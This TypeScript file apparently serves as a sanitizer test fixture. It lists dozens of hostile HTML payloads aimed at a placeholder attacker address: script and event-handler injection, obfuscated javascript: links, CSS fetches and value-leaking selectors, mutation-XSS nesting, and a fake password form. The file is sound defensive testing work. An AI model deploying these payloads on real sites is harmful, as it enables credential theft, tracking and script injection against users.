// Long: a list of tricks, a line or a few each.

/** HTML that tries to fetch, run, navigate or send something: `at` gives the attacker's address for a trick. */
export type HostileHtml = readonly [trick: string, html: (at: (path: string) => string) => string]

const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
const script = (at: (path: string) => string, path: string) =>
  `new Image().src='${at(path)}';document.title='ran';top.location='${at(`${path}-nav`)}'`

export const HOSTILE_HTML: readonly HostileHtml[] = [
  ['a picture', (at) => `<img src="${at('img')}"><IMG SRC='${at('img2')}'/><img/src=${at('img3')}>`],
  ['srcset', (at) => `<img srcset="${at('srcset')} 1x, ${at('srcset2')} 2x" sizes="100vw">`],
  [
    'picture and source',
    (at) => `<picture><source srcset="${at('source')}"><img src="${at('picture')}"></picture>`,
  ],
  ['an input as a picture', (at) => `<input type=image src="${at('input')}">`],
  [
    'background attributes',
    (at) =>
      `<body background="${at('body')}"><table background="${at('table')}"><td background="${at('td')}">x`,
  ],
  [
    'a style with a background',
    (at) => `<div style="background:url(${at('bg')});background-image:url('${at('bgi')}')">x</div>`,
  ],
  [
    'a style with escapes',
    (at) =>
      `<div style="background:\\75\\72\\6c(${at('esc')});b\\61ckground-image:u\\rl(${at('esc2')})">x</div>`,
  ],
  [
    'a style with comments',
    (at) => `<div style="background:/**/url(/**/${at('cmt')}/**/);color:red">x</div>`,
  ],
  [
    'image-set and cross-fade',
    (at) =>
      `<p style="background-image:image-set('${at('set')}' 1x);background-image:-webkit-image-set(url(${at('wset')}) 1x);background:cross-fade(url(${at('fade')}),red)">x`,
  ],
  [
    'lists, cursors, content, masks',
    (at) =>
      `<ul style="list-style-image:url(${at('list')})"><li style="cursor:url(${at('cursor')}),auto;content:url(${at('content')});border-image:url(${at('border')}) 1;-webkit-mask-image:url(${at('mask')});shape-outside:url(${at('shape')});filter:url(${at('filter')}#f);clip-path:url(${at('clip')}#c)">x`,
  ],
  ['a variable with an address', (at) => `<p style="--x:url(${at('var')});background:var(--x)">x`],
  [
    'a style element with a font',
    (at) => `<style>@font-face{font-family:x;src:url(${at('font')})}p{font-family:x}</style><p>x`,
  ],
  ['an import', (at) => `<style>@import url(${at('import')});@import "${at('import2')}";</style><p>x`],
  [
    'selectors that read what is there',
    (at) =>
      `<style>input[value^=a]{background:url(${at('leak')})}p:hover{background:url(${at('hover')})}p:first-letter{background:url(${at('letter')})}</style><p>x<input value=a>`,
  ],
  [
    'a style element that is left open',
    (at) => `<style>p{color:red}</sty<p>le><img src="${at('style-open')}">`,
  ],
  [
    'link: stylesheet, prefetch, preload, icon',
    (at) =>
      [
        'stylesheet',
        'prefetch',
        'preload',
        'prerender',
        'preconnect',
        'dns-prefetch',
        'modulepreload',
        'icon',
        'manifest',
        'import',
      ]
        .map((rel) => `<link rel="${rel}" as=image href="${at(`link-${rel}`)}">`)
        .join(''),
  ],
  ['link with imagesrcset', (at) => `<link rel=preload as=image imagesrcset="${at('imagesrcset')} 1x">`],
  [
    'meta refresh',
    (at) =>
      `<meta http-equiv="refresh" content="0;url=${at('refresh')}"><META HTTP-EQUIV=Refresh CONTENT="0; ${at('refresh2')}">`,
  ],
  [
    'meta that takes the policy away',
    (at) =>
      `<meta http-equiv="Content-Security-Policy" content="img-src *"><meta name=referrer content=unsafe-url><img src="${at('policy')}">`,
  ],
  ['base', (at) => `<base href="${at('base/')}"><img src="x.png"><a href="y">z</a>`],
  [
    'frames',
    (at) =>
      `<iframe src="${at('iframe')}"></iframe><iframe srcdoc="<img src='${at('srcdoc')}'>"></iframe><frameset><frame src="${at('frame')}"></frameset>`,
  ],
  ['a frame that is left open', (at) => `<iframe><img src="${at('iframe-open')}"><p>`],
  [
    'object, embed, applet, portal',
    (at) =>
      `<object data="${at('object')}"><img src="${at('fallback')}"></object><embed src="${at('embed')}"><applet code=x archive="${at('applet')}"></applet><portal src="${at('portal')}"></portal>`,
  ],
  [
    'audio, video, poster, track',
    (at) =>
      `<video autoplay poster="${at('poster')}" src="${at('video')}"><track src="${at('track')}" default><source src="${at('vsource')}"></video><audio autoplay src="${at('audio')}"></audio>`,
  ],
  [
    'a script',
    (at) =>
      `<script>${script(at, 'script')}</script><script src="${at('script-src')}"></script><SCRIPT/x>${script(at, 'script2')}</SCRIPT >`,
  ],
  [
    'handlers',
    (at) =>
      `<img src=x onerror="${script(at, 'onerror')}"><body onload="${script(at, 'onload')}"><p onmouseover="${script(at, 'over')}" onclick="${script(at, 'click')}">x<details open ontoggle="${script(at, 'toggle')}"><input autofocus onfocus="${script(at, 'focus')}"><marquee onstart="${script(at, 'marquee')}">x`,
  ],
  [
    'handlers behind odd separators',
    (at) =>
      `<img/src=x/onerror=${at('slash')}><img src=x\x0conerror="${script(at, 'ff')}"><img src="x"onerror="${script(at, 'glued')}"><img \x00onerror="${script(at, 'nul')}" src=x>`,
  ],
  [
    'javascript: in every spelling',
    (at) =>
      [
        'javascript:',
        'JaVaScRiPt:',
        'java\tscript:',
        'java\nscript:',
        ' \x01javascript:',
        'javascript&colon;',
        '&#106;avascript:',
        '&#x6A;avascript&#58;',
        'vbscript:',
        'javascript&NewLine;:',
      ]
        .map(
          (scheme) =>
            `<a href="${scheme}${script(at, 'js')}">go</a><iframe src="${scheme}${script(at, 'jsf')}"></iframe>`,
        )
        .join(''),
  ],
  [
    'data: addresses',
    (at) =>
      `<a href="data:text/html,<img src=${at('data')}>">x</a><iframe src="data:text/html,<img src=${at('dataf')}>"></iframe><img src="data:image/svg+xml,${encodeURIComponent(`${SVG_OPEN}<image href="${at('datasvg')}"/></svg>`)}"><object data="data:text/html,<img src=${at('datao')}>">`,
  ],
  [
    'SVG',
    (at) =>
      `${SVG_OPEN}<image href="${at('svg')}"/><image xlink:href="${at('svgx')}"/><use href="${at('use')}#x"/><feImage href="${at('fe')}"/><a href="${at('svga')}"><rect width=100 height=100 /></a><style>rect{fill:url(${at('fill')})}</style><script>${script(at, 'svgs')}</script><animate attributeName=href values="${at('anim')}"/><foreignObject><img src="${at('foreign')}"></foreignObject></svg>`,
  ],
  [
    'SVG that ends early',
    (at) =>
      `<svg><p><style><img src="${at('svgp')}"></style></p></svg><svg></p><style><a id="</style><img src='${at('svgid')}'>">`,
  ],
  [
    'MathML',
    (at) =>
      `<math href="${at('math')}"><mtext><img src="${at('mtext')}"></mtext><maction actiontype="statusline#${at('maction')}">x</maction></math>`,
  ],
  [
    'nesting that changes when it is parsed again',
    (at) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src="${at('mxss')}" onerror="${script(at, 'mxss-run')}">`,
  ],
  ['a title that ends elsewhere', (at) => `<noscript><p title="</noscript><img src='${at('noscript')}'>">`],
  [
    'a table that throws things out',
    (at) =>
      `<table><img src="${at('foster')}"><tr><style><!--</style><img src="${at('foster2')}">--></tr></table>`,
  ],
  [
    'template and shadow',
    (at) =>
      `<template><img src="${at('template')}"></template><div><template shadowrootmode=open><img src="${at('shadow')}"></template></div>`,
  ],
  [
    'noscript, noembed, noframes, xmp, plaintext',
    (at) =>
      ['noscript', 'noembed', 'noframes', 'xmp', 'listing', 'textarea', 'title', 'plaintext']
        .map((tag) => `<${tag}></${tag}x><img src="${at(tag)}"></${tag}><img src="${at(`${tag}2`)}">`)
        .join(''),
  ],
  [
    'comments of other programs',
    (at) =>
      `<!--[if mso]><img src="${at('mso')}"><![endif]--><!--><img src="${at('cut')}">--><!-- --!><img src="${at('bang')}"><![CDATA[<img src="${at('cdata')}">]]><?xml-stylesheet href="${at('pi')}"?>`,
  ],
  [
    'a form',
    (at) =>
      `<form action="${at('form')}" method=post><input name=password type=password autofocus><button formaction="${at('button')}">Log in</button></form><isindex action="${at('isindex')}">`,
  ],
  [
    'ping and target',
    (at) =>
      `<a href="${at('a')}" ping="${at('ping')}" target=_top download>x</a><area href="${at('area')}"><map name=m><area href="${at('map')}" shape=default></map><img usemap="#m" src="${at('usemap')}">`,
  ],
  [
    'a link over all of the page',
    (at) =>
      `<a href="${at('overlay')}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;display:block;opacity:0">x</a>`,
  ],
  [
    'addresses without a scheme',
    (at) =>
      `<img src="${at('noscheme').replace(/^http:/, '')}"><img src="\\\\${at('unc').replace(/^http:\/\//, '')}">`,
  ],
  [
    'addresses with blanks and entities',
    (at) =>
      `<img src=" \t\n${at('blank')}"><img src="h&#116;tp:${at('ent').replace(/^http:/, '')}"><img src="${at('tab').replace('://', ':/\t/')}">`,
  ],
  [
    'old attributes',
    (at) =>
      `<img lowsrc="${at('lowsrc')}" dynsrc="${at('dynsrc')}" longdesc="${at('longdesc')}"><bgsound src="${at('bgsound')}"><blockquote cite="${at('cite')}">x</blockquote><html manifest="${at('manifest')}"><head profile="${at('profile')}"><layer src="${at('layer')}">`,
  ],
  [
    'expressions and behaviours',
    (at) =>
      `<p style="width:expression(${script(at, 'expr')});behavior:url(${at('htc')});-moz-binding:url(${at('moz')})">x`,
  ],
  [
    'attributes in quotes that do not end',
    (at) => `<img alt="x src='${at('quote')}'><img src="${at('quote2')}" title='"><img src=${at('quote3')}>'`,
  ],
  [
    'NUL and odd characters in names',
    (at) =>
      `<im\x00g src="${at('nul')}"><img\u00a0src="${at('nbsp')}"><\x00script>${script(at, 'nuls')}</script>`,
  ],
  ['deep nesting', (at) => `${'<div>'.repeat(5_000)}<img src="${at('deep')}">${'</div>'.repeat(5_000)}`],
  [
    'many attributes',
    (at) =>
      `<p ${Array.from({ length: 5_000 }, (_, n) => `a${n}=1`).join(' ')} style="background:url(${at('attrs')})">x`,
  ],
  [
    'names that stand for elements',
    (at) =>
      `<img name=body src=x><form id=document><input name=cookie></form><a id=location name=location href="${at('clobber')}">x</a>`,
  ],
  [
    'a dialog and a popover',
    (at) =>
      `<dialog open><form method=dialog action="${at('dialog')}"><button>x</button></form></dialog><button popovertarget=p>x</button><div id=p popover>${'<img src=x>'}</div>`,
  ],
  [
    'speculation rules and import maps',
    (at) =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at('speculation')}"],"eagerness":"immediate"}]}</script><script type=importmap>{"imports":{"x":"${at('importmap')}"}}</script>`,
  ],
  [
    'markup within an attribute that is allowed',
    (at) =>
      `<img alt="<img src=${at('alt')}>" src=x><td style="color:red&quot;><img src=${at('attr')}>">x</td><ol start="1&quot;><img src=${at('start')}>"><li>x</ol>`,
  ],
]
